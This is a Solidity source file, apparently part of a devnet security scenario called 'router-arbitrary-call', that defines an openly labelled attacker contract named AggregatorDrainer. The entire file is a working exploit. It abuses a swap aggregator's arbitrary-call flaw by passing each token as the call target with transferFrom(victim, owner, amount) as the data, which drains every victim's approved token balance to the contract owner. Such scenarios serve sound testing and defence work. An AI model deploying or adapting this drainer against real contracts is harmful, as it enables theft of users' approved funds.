// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20Like, SwapAggregator} from "./SwapAggregator.sol";

/// @title AggregatorDrainer
/// @notice Attacker contract for the devnet scenario "router-arbitrary-call": for every victim
///         and token it reads how much the victim holds and has approved the aggregator for, and
///         has the aggregator "swap" 0 tokens with target = the token and data =
///         `transferFrom(victim, owner, amount)`, so the aggregator spends the victim's allowance.
contract AggregatorDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function drain(SwapAggregator aggregator, address[] calldata tokens, address[] calldata victims) external {
        require(msg.sender == owner, "AggregatorDrainer: not owner");
        for (uint256 v; v < victims.length; v++) {
            for (uint256 t; t < tokens.length; t++) {
                _take(aggregator, IERC20Like(tokens[t]), victims[v]);
            }
        }
    }

    function _take(SwapAggregator aggregator, IERC20Like token, address victim) private {
        uint256 held = token.balanceOf(victim);
        uint256 allowed = token.allowance(victim, address(aggregator));
        uint256 amount = held < allowed ? held : allowed;
        if (amount == 0) return;
        bytes memory data = abi.encodeCall(IERC20Like.transferFrom, (victim, owner, amount));
        aggregator.swap(address(token), 0, address(token), data, address(token), 0);
    }
}
